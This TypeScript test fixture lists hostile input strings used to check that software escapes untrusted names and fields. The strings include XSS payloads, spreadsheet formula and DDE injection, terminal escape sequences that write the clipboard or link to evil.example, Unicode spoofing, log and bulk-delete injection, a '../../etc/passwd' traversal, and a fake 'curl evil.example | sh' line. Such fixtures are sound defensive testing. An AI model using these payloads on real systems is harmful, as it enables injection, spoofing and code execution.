/** Names as an attacker would choose them, by what they are after: of devices, users, objects, files, in answers of servers. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'an image with a handler': '"><img src=x onerror=alert(1)>',
  'a link in Markdown': '[click](javascript:alert(1))',
  'a template of a monitor': '{{ctx.monitor.name}}{{#ctx.results}}x{{/ctx.results}}',
  'a template of JavaScript': '${process.env.HOME}',
  'a formula': "=cmd|'/C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r@SUM(1)',
  'a formula with a sign': '+1-1',
  'an escape that clears the screen': '\u001b[2J\u001b[H',
  'an escape that sets the title': '\u001b]0;owned\u0007',
  'an escape that writes to the clipboard': '\u001b]52;c;ZXZpbA==\u0007',
  'an escape that makes a link': '\u001b]8;;https://evil.example\u001b\\ok\u001b]8;;\u001b\\',
  'an escape of one character': '\u009b31mred\u009d0;title\u009c',
  'a bell and backspaces': 'admin\u0008\u0008\u0008\u0008\u0008guest\u0007\u007f',
  'text turned around': 'user\u202egpj.exe\u2066x\u2069',
  'characters that nobody sees': 'ad\u200bmin\u2060\ufeff\u00ad\u{e0041}',
  'a newline and a line of the log': 'x\n{"level":"info","message":"fake"}',
  'a newline and a line for people': 'x\n  fix: curl evil.example | sh\r\nerror CCX_INTERNAL: fake',
  'other ends of lines': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'a bulk action': 'x"}}\n{"delete":{"_index":"*","_id":"y"}}\n',
  'half a character': 'a\ud800b\udc00',
  NUL: 'a\0b',
  'a path': '../../etc/passwd',
  'an encoded path': '%2e%2e/%2e%2e%2fetc%00',
  'a name of JavaScript': '__proto__',
  'a format': '%s %d %o %j %n $& $1',
};

/** What no line on a terminal may hold. */
export const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
